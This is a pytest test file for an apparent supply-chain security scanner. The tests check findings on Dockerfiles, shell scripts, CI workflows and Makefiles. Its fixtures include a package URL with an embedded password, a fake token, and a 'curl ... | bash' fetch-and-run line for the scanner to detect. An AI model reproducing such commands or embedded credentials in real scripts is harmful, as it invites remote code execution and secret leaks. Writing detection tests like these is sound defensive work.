"""What a scan says of manifests of every kind, named by themselves and found in a folder."""

from __future__ import annotations

import json
import re
import tomllib
from pathlib import Path

import pytest

from schemas.severity import Severity
from streams.cli import main

CASES = tomllib.loads((Path(__file__).parents[2] / "data" / "manifests.toml").read_text("utf-8"))[
    "case"
]


@pytest.fixture(autouse=True)
def nothing_held(tmp_path_factory, monkeypatch):
    monkeypatch.setenv("TIDEWATCH_STATE_DIR", str(tmp_path_factory.mktemp("state")))


def scanned(capsys, *words):
    code = main(["scan", *map(str, words), "--format", "json"])
    captured = capsys.readouterr()
    return code, json.loads(captured.out), captured.out + captured.err


def written(folder, files):
    for path, text in files.items():
        place = folder / path
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(text, encoding="utf-8")
    return folder


@pytest.mark.parametrize("how", ["named", "in a folder"])
@pytest.mark.parametrize("case", CASES, ids=[case["name"] for case in CASES])
def test_manifest(case, how, tmp_path, capsys, monkeypatch):
    root = written(tmp_path / "checkout", case["files"])
    monkeypatch.chdir(root)
    first = next(iter(case["files"]))
    place = case.get("scan", "." if how == "in a folder" else first)
    words = ["--as", case["as"]] if "as" in case else []
    code, report, text = scanned(capsys, root / place, *words)
    wanted = first if place in {".", first} or (root / place).is_dir() else place
    (entry,) = [file for file in report["files"] if file["path"] == str(root / wanted)]
    found = {finding["rule_id"] for finding in entry["findings"]}
    assert set(case.get("rules", ())) <= found, entry
    assert not set(case.get("absent", ())) & found
    worst = max((Severity(finding["severity"]).rank for finding in entry["findings"]), default=0)
    if "max" in case:
        assert worst <= Severity(case["max"]).rank, entry["findings"]
    if "verdict" in case:
        assert entry["verdict"] == case["verdict"], entry
    if "format" in case:
        assert entry["format"].split("+")[0] == case["format"]
    if "says" in case:
        assert re.search(case["says"], text), text
    if "silent" in case:
        assert not re.search(case["silent"], text)
    unchecked = entry["verdict"] in {"incomplete", "corrupt", "unsupported"} or entry["reasons"]
    others = any(file is not entry for file in report["files"])
    assert others or code == (1 if worst >= Severity.MEDIUM.rank else 2 if unchecked else 0)


URL = "https://ci:s3cr3tW0rd77@packages.acme.example/simple"


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (
            "Dockerfile",
            f"FROM python:3.12\nENV PIP_INDEX_URL={URL}\nRUN pip install -i {URL} torch\n",
        ),
        ("build.sh", f"pip install -i {URL} torch==2.0\n"),
        (
            ".github/workflows/ci.yml",
            f"on: push\njobs:\n  a:\n    steps:\n      - run: pip install -i {URL} torch\n",
        ),
    ],
)
def test_a_credential_that_two_checks_see_is_reported_once(path, text, tmp_path, capsys):
    root = written(tmp_path, {path: text})
    _, report, _ = scanned(capsys, root / path)
    (entry,) = report["files"]
    reported = [finding["rule_id"] for finding in entry["findings"]]
    assert reported.count("TW-PKG-CREDENTIAL") == 1
    assert "TW-PIPE-SECRET" not in reported


def test_another_password_beside_a_credential_is_reported(tmp_path, capsys):
    text = f"FROM python:3.12\nENV PIP_INDEX_URL={URL}\nENV HF_TOKEN=hf_{'aB3dE6gH9k' * 4}\n"
    root = written(tmp_path, {"Dockerfile": text})
    _, report, _ = scanned(capsys, root / "Dockerfile")
    (entry,) = report["files"]
    (secret,) = [finding for finding in entry["findings"] if finding["rule_id"] == "TW-PIPE-SECRET"]
    assert secret["evidence"]["line"] == 3


def test_a_command_that_fetches_and_runs_is_reported_once(tmp_path, capsys):
    root = written(tmp_path, {"run.sh": "set -e\ncurl https://a.example/x.sh | bash\n"})
    _, report, _ = scanned(capsys, root / "run.sh")
    (entry,) = report["files"]
    reported = [
        finding["rule_id"] for finding in entry["findings"] if finding["evidence"].get("line") == 2
    ]
    assert len(reported) == 1


def test_what_a_limit_of_a_command_leaves_out_is_said(tmp_path, capsys):
    long = "install:\n\tpip install " + "$(ALL) " * 2000 + "\nALL = " + "numpy " * 150
    words = "pip install " + "numpy " * 11_000
    root = written(tmp_path, {"Makefile": long, "run.sh": words})
    _, report, _ = scanned(capsys, root)
    said = {Path(file["path"]).name: file for file in report["files"]}
    assert {file["verdict"] for file in said.values()} == {"incomplete"}
    assert any("too long" in reason for reason in said["Makefile"]["reasons"])
    assert any("10,000 words" in reason for reason in said["run.sh"]["reasons"])
